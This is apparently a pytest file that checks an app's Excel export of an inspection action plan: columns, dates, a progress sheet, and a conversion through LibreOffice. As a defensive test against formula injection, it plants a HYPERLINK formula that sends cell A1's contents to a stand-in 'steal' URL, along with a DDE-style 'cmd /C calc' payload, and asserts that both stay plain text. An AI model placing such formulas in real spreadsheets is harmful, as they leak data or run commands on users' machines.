"""The action plan as an Excel workbook: read back with openpyxl, and once through LibreOffice
Calc (converted to CSV)."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from datetime import date, datetime
from pathlib import Path

import peewee
import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from esi_desktop import plan
from esi_desktop.export import progress_content
from esi_desktop.export.xlsx_plan import (
    DATE_FORMAT,
    PLAN_COLUMNS,
    next_meeting,
    plan_xlsx,
    render_plan_xlsx,
)
from esi_desktop.plan import submission
from tests.test_export import TODAY, FilledPlan, fill_plan

EVIL = '=HYPERLINK("http://example.invalid/steal?x="&A1,"Click")'


@pytest.fixture
def filled(sample_db: peewee.Database) -> FilledPlan:
    filled = fill_plan()
    plan.update_action(action_id=filled.actions["second"], changes={"owner": EVIL})
    plan.update_milestone(
        milestone_id=filled.milestones["analysis"],
        changes={"evidence": "@SUM(1+1)*cmd|' /C calc'!A0"},
        today=TODAY,
    )
    return filled


def workbook(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data))


def test_plan_sheet_has_a_row_per_milestone_with_real_dates_filters_and_a_frozen_header(
    filled: FilledPlan,
) -> None:
    book = workbook(plan_xlsx(inspection_id=filled.inspection_id, today=TODAY))
    assert book.sheetnames == ["Plan", "Progress"]
    sheet = book["Plan"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == tuple(title for title, _width in PLAN_COLUMNS)
    by_reference = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert list(by_reference) == ["AP1.1", "AP1.2", "AP2.1", "AP2.2"]
    first = by_reference["AP1.1"]
    assert first["Recommendation"] == "1, 2"
    assert first["Response category"] == "Agreed, Not yet agreed"
    assert first["Owner"] == "Zoë Brontë, Head of Learning and Development"
    assert first["Milestone"] == "Training needs analysis completed"
    assert first["Status"] == "Complete" and first["RAG"] == "Green"
    # real date cells, shown day first
    assert first["Target date"] == datetime(2005, 9, 30)
    assert first["Due date"] == datetime(2005, 4, 30)
    assert first["Completed on"] == datetime(2005, 4, 28)
    assert sheet["F2"].is_date and sheet["F2"].number_format == DATE_FORMAT
    assert by_reference["AP1.2"]["Completed on"] is None
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:M{len(rows)}"  # the addressee last
    assert sheet.column_dimensions["D"].width >= 40
    assert sheet["D2"].alignment.wrap_text
    # formula injection: shown as typed, stored as text, never as a formula
    for cell in (sheet["E4"], sheet["L2"]):
        assert cell.data_type == "s" and cell.quotePrefix
    assert sheet["E4"].value == EVIL and sheet["L2"].value.startswith("@SUM")
    # no internal note anywhere in the workbook
    for values in book["Plan"].iter_rows(values_only=True):
        for note in filled.notes:
            assert note not in " ".join(str(v) for v in values)


def test_an_action_without_milestones_has_its_own_row(filled: FilledPlan) -> None:
    plan.add_action(
        inspection_id=filled.inspection_id,
        recommendation_ids=[],
        text="Brief the Board on the findings",
        owner="Chief Officer",
        target_date=date(2005, 7, 21),
    )
    sheet = workbook(plan_xlsx(inspection_id=filled.inspection_id, today=TODAY))["Plan"]
    last = [c.value for c in sheet[sheet.max_row]]
    assert last[0] == "AP3" and last[3] == "Brief the Board on the findings"
    assert last[6] == "" or last[6] is None  # no milestone
    assert last[5] == datetime(2005, 7, 21) and last[8] == "No milestones yet"


def test_progress_sheet_has_the_board_papers_tables(filled: FilledPlan) -> None:
    inspection_id = filled.inspection_id
    submission.mark_plan_sent(
        force=True, inspection_id=inspection_id, sent_on=date(2005, 4, 12), today=TODAY
    )
    plan.add_board_meeting(inspection_id=inspection_id, meeting_date=date(2005, 5, 19))
    plan.add_board_meeting(inspection_id=inspection_id, meeting_date=date(2005, 7, 21))
    plan.update_milestone(
        milestone_id=filled.milestones["draft"],
        changes={"due_date": date(2005, 9, 15)},
        today=TODAY,
    )
    plan.update_milestone(
        milestone_id=filled.milestones["tool"],
        changes={"status": "Complete", "completed_on": date(2005, 5, 30), "evidence": "SMT"},
        today=TODAY,
    )
    today = date(2005, 7, 8)
    assert next_meeting(inspection_id=inspection_id, today=today) == date(2005, 7, 21)
    content = progress_content(
        inspection_id=inspection_id, meeting_date=date(2005, 7, 21), today=today
    )
    sheet = workbook(render_plan_xlsx(content))["Progress"]
    rows = [[v for v in row] for row in sheet.iter_rows(values_only=True)]
    firsts = [row[0] for row in rows]
    for heading in (
        "1. Where the plan stands",
        "3. Completed since the previous meeting",
        "4. Overdue items",
        "5. Changes since the plan was sent",
        "6. Extension requests",
    ):
        assert heading in firsts
    counts = {row[0]: row[1:3] for row in rows if row[0] in ("Red", "Amber", "Green", "Total")}
    assert counts["Total"] == [15, 2]
    completed = rows[firsts.index("3. Completed since the previous meeting") + 3]
    assert completed[0] == "AP2.1" and completed[4] == datetime(2005, 5, 30)
    slipped = rows[firsts.index("6. Extension requests") + 2]
    assert slipped[0] == "AP1.2"
    assert slipped[3:6] == [datetime(2005, 7, 21), datetime(2005, 9, 15), 56]
    assert EVIL in [row[3] for row in rows]  # the owner, as text
    for row in rows:
        for note in filled.notes:
            assert note not in " ".join(str(v) for v in row)


@pytest.mark.skipif(
    shutil.which("soffice") is None and not os.environ.get("CI"),
    reason="LibreOffice (soffice) is not installed",
)
def test_libreoffice_calc_reads_the_plan_sheet(filled: FilledPlan, tmp_path: Path) -> None:
    source = tmp_path / "plan.xlsx"
    source.write_bytes(plan_xlsx(inspection_id=filled.inspection_id, today=TODAY))
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'lo_profile'}",
            "--headless",
            "--convert-to",
            # comma, double quote, UTF-8, from line 1; cells as shown (dates day first)
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    rows = list(csv.reader(io.StringIO((tmp_path / "plan.csv").read_text(encoding="utf-8"))))
    assert rows[0] == [title for title, _width in PLAN_COLUMNS]
    assert [row[0] for row in rows[1:]] == ["AP1.1", "AP1.2", "AP2.1", "AP2.2"]
    assert rows[1][5] == "30/09/2005" and rows[1][9] == "28/04/2005"
    assert rows[1][4] == "Zoë Brontë, Head of Learning and Development"
    assert rows[3][4] == EVIL  # shown as typed: LibreOffice did not run it as a formula
    assert rows[1][11].startswith("@SUM(1+1)")
